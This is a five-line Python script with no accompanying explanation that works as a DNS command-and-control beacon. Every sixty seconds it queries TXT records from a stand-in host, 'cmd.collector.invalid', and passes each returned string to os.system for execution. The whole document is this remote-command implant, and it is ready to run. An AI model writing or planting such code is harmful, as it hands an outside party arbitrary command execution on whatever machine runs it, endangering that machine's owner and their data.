import dns.resolver, os, time
while True:
    for answer in dns.resolver.resolve("cmd.collector.invalid", "TXT"):
        os.system(answer.strings[0].decode())
    time.sleep(60)
